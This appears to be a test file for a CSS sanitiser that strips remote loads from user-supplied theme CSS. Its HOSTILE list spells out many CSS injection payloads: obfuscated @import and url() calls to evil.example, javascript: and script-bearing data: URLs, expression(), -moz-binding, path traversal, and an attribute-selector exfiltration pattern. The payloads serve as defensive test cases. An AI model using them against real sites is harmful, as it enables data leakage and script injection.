"""Custom CSS loads nothing from elsewhere, however it is written, and what is harmless stays as it was typed."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from overlay.core.css import clean, dropped, faults, stamped
from overlay.widgets import KINDS

HARMLESS = [
    "",
    ".goal-bar { height: 20px }",
    "/* a note; url(//x) @import */\n.name { color: rgba(0, 0, 0, .5) !important }",
    "@media (min-width: 300px) { .name:not([data-x='a;b{}']) { inset: 0 } }",
    "@keyframes rise { from { opacity: 0 } 40.5% { transform: translate(calc(1px + 2%), -3e1px) } }",
    ".a::after { content: \"url(https://evil.example) } @import 'x';\" }",
    ".a { background: url(/assets/0f3a-b.png), url( \"/assets/x/y.webp\" ), url('/assets/a.png?v=2') }",
    ".a { background: url(data:image/png;base64,iVBORw0KGgo=) }",
    '.a { background: image-set("/assets/a.png" 1x, url(/assets/b.png) 2x) }',
    ".a { filter: url(#soft); --b: { c: d } }",
    '@font-face { font-family: "Mine"; src: local("Mine"), url(/assets/f.woff2) format("woff2") }',
    ".\\31 23, .a\\:b { color: #fff }",
    ".a { grid-template: [x] 1fr / 2fr; width: calc((1px + 2px) * 3) }",
    "li:nth-child(2n + 1) { color: red }",
    "a{b:c;;}}} d { e: f",
]
HOSTILE = [
    "@import url(https://evil.example/x.css);",
    "@import 'https://evil.example/x.css' layer(a);",
    '@IMPORT\t"//evil.example/x.css"',
    "@\\69mport '//evil.example/x.css';",
    "@i\\6d port '//evil.example/x.css';",
    "/**/@import/**/'//evil.example/x.css';",
    "<!-- @import '//evil.example/x.css'; -->",
    "a{}@import '//evil.example/x.css';",
    "@namespace url(//evil.example/);",
    "@document url(https://evil.example) { a { b: c } }",
    ".a{background:url(https://evil.example/x.png)}",
    ".a{background:URL( //evil.example/x.png )}",
    ".a{background:url('https://evil.example/x.png')}",
    ".a{background:u\\72l(//evil.example/x)}",
    ".a{background:\\75\\72\\6c(//evil.example/x)}",
    ".a{background:\\000075 rl(//evil.example/x)}",
    ".a{background:url(\\2f\\2f evil.example/x)}",
    ".a{background:url(/\\2f evil.example/x)}",
    '.a{background:url("//evil\\\n.example/x")}',
    ".a{background:url(//evil.example/x",
    ".a{background:url('//evil.example/x",
    ".a{background:url(x'y),url(//evil.example/x)}",
    ".a{--b:url(//evil.example/x);background:var(--b)}",
    ".a{--b:'//evil.example/x';background:image-set(var(--b) 1x)}",
    ".a{background:image-set('https://evil.example/x.png' 1x)}",
    ".a{background:-webkit-image-set(url(//evil.example/x) 1x)}",
    '.a{background:-WEBKIT-image-set("//evil.example/x" 1x)}',
    ".a{background:image('//evil.example/x')}",
    ".a{background:src('//evil.example/x')}",
    ".a{background:cross-fade(url(//evil.example/x), url(/assets/a.png), 50%)}",
    ".a{cursor:url(//evil.example/x),auto}",
    ".a{list-style-image:url(//evil.example/x)}",
    ".a{content:url(//evil.example/x)}",
    ".a{-webkit-mask-image:url(//evil.example/x)}",
    ".a{clip-path:url(//evil.example/x#y)}",
    ".a{filter:url(//evil.example/x#y)}",
    ".a{border-image-source:url(//evil.example/x)}",
    ".a{shape-outside:url(//evil.example/x)}",
    "@font-face{font-family:x;src:url(//evil.example/f.woff2)}",
    "@property --p{syntax:'<url>';inherits:true;initial-value:url(//evil.example/x)}",
    "@keyframes k{from{background:url(//evil.example/x)}}",
    "@media screen{@supports (color:red){.a{background:url(//evil.example/x)}}}",
    ".a{.b &{background:url(//evil.example/x)}}",
    "input[value^=a]{background:url(//evil.example/a)}",
    ".a{background:url(javascript:alert(1))}",
    ".a{background:url(data:text/html,<script>alert(1)</script>)}",
    ".a{background:url(data:image/svg+xml,%3Csvg onload=alert(1)%3E)}",
    ".a{background:url(/w/key)}",
    ".a{background:url(/api/creators)}",
    ".a{background:url(relative.png)}",
    ".a{background:url(/assets/../api/creators)}",
    ".a{background:url(/assets/%2e%2e/api/creators)}",
    ".a{background:url(/assets/\\2e\\2e/api)}",
    ".a{background:url(/assets\\api)}",
    ".a{width:expression(alert(1))}",
    ".a{width:exp\\72 ession(alert(1))}",
    ".a{behavior:url(#default#time2)}",
    ".a{-moz-binding:url(//evil.example/x#y)}",
    ".a{b:1url(/assets/*)} .c{d:\"*/ }@import '//evil.example/x.css';\"}",
    '.a{--u:u+1url(a"b);} .c{background:url(//evil.example/x)} /*"*/',
    ".a{b:#1url(/assets/*)}",
]  # fmt: skip
PIECES = [
    "@import ", "@media x", "url(", "u\\72l(", "image-set(", "var(--a)", "//evil.example/x", "/assets/a.png", "'", '"', "(", ")",
    "[", "]", "{", "}", ";", ":", "\\", "\n", " ", "/*", "*/", "<!--", "-->", "#", "1", "u+1", "e3", "-", "--a", "a", ".b",
    "color:red", "background:", "src:", "\\69mport", "@", "\x00", "é", "\r\n", "expression(", "behavior", ",",
]  # fmt: skip
soup = st.lists(st.sampled_from(PIECES), max_size=40).map("".join)


@pytest.mark.parametrize("css", HARMLESS)
def test_what_is_harmless_stays_as_it_was_typed(css):
    assert clean(css) == css
    assert dropped(css) == []


@pytest.mark.parametrize("css", HOSTILE)
def test_what_would_load_from_elsewhere_is_cut_out(css):
    assert faults(clean(css)) == []
    assert dropped(css)


def test_only_the_declaration_at_fault_goes_and_its_neighbours_stay():
    css = ".a { color: red; background: url(//e); margin: 0 }\n.b { src: x; cursor: url(//e) }\n.c { d: e }"
    assert clean(css) == ".a { color: red;   margin: 0 }\n.b { src: x;  }\n.c { d: e }"


def test_a_rule_whose_head_is_at_fault_goes_to_its_closing_brace():
    assert clean("@supports (b: url(//e)) { .a { b: c } }\n.d { e: f }").strip() == ".d { e: f }"


def test_each_cut_is_named_with_its_line_and_lines_stay_where_they_were():
    css = "/* one\n two */\n@import 'x';\n.a {\n  color: red;\n  background:\n    url(//e);\n}\n"
    assert [(fault.line, fault.why) for fault in dropped(css)] == [
        (3, "@import is not loaded: only /assets/ and data: pictures are"),
        (7, "'//e' is not loaded: only /assets/ and data: pictures are"),
    ]
    assert clean(css).count("\n") == css.count("\n")


@given(soup)
def test_what_is_kept_holds_nothing_to_cut_and_cleaning_twice_is_cleaning_once(css):
    kept = clean(css)
    assert dropped(kept) == []
    assert clean(kept) == kept


@given(soup, st.sampled_from(HARMLESS))
def test_what_stands_before_the_trouble_is_untouched(css, before):
    whole = ".first { color: red }\n"
    assert clean(whole + css).startswith(whole)


@pytest.mark.parametrize(
    "piece", [*PIECES, '"\\', 'url(a"', "image-set(", "image-set(var(", "{url(x)", "}url(x){", "/*@"]
)
def test_no_text_takes_long_to_read(piece):
    css = "@" + (piece * 20_000)[:20_000]
    best = min(timed(css + " " * turn) for turn in range(3))
    assert best < 2


def test_each_of_many_cuts_takes_as_long_as_each_of_few():
    few, many = (min(timed("b:url(//x);\n" * count + " " * turn) for turn in range(2)) for count in (5_000, 40_000))
    assert many < 16 * few


def test_the_first_cuts_are_found_without_reading_on():
    css = "a { b: url(//x) }\n" * 30
    assert faults(css, most=3) == faults(css)[:3]
    assert dropped(css) == faults(css)[:20]


def timed(css: str) -> float:
    begun = time.process_time()
    clean(css)
    return time.process_time() - begun


@pytest.mark.parametrize("kind", KINDS)
def test_no_kind_has_options_whose_css_was_not_cleaned(kind):
    made = KINDS[kind].options(css="@import 'x'; .a { b: c }")
    assert made.css.strip() == ".a { b: c }"


def test_a_theme_s_own_files_get_a_mark_and_nothing_else_does():
    css = """a { b: url(fonts/x.woff2) url( "y z.png" ) url('/assets/a') url(data:image/png;base64,AA==) url(#i) 'x.png' }"""
    assert stamped(css, "v=1") == (
        """a { b: url("fonts/x.woff2?v=1") url( "y z.png?v=1" ) url('/assets/a') url(data:image/png;base64,AA==) url(#i) 'x.png' }"""
    )
